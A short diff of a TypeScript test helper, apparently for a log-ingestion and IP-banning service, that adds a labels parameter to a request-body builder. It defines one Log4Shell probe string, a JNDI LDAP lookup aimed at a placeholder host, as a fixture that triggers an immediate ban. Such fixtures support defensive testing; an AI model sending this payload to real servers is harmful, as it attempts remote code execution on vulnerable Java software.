@@ -77,6 +77,10 @@ export function nginxLine(ip: string, path: string, status = 404, agent = "curl/
 /** One Log4Shell probe: a trigger scenario, banned from the first offence. */
 export const LOG4SHELL_PATH = ["/?x=$", "{jndi:ldap://198.51.100.1:1389/a}"].join("");
 
-export function ingestBody(batchId: string, lines: readonly string[]): string {
-  return JSON.stringify({ batch_id: batchId, source: { type: "nginx", labels: {} }, lines });
+export function ingestBody(
+  batchId: string,
+  lines: readonly string[],
+  labels: Record<string, string> = {},
+): string {
+  return JSON.stringify({ batch_id: batchId, source: { type: "nginx", labels }, lines });
 }
